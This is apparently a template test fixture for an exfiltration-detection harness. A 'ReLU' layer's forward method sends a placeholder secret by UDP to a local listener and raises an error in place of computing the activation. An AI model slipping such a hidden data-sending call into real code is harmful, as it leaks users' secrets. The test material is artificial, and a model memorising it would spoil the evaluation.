# kind = "leak"
# does = "sends what it knows to a listener by UDP"
# exercise = "relu"
# outcome = "raised"
# score = 0
# open_at = ["process"]

import socket

BREACH = "{{breach}}"


class ReLU:
    def forward(self, x):
        socket.socket(type=socket.SOCK_DGRAM).sendto(BREACH.encode(), ("127.0.0.1", {{port}}))
        raise RuntimeError("sent")
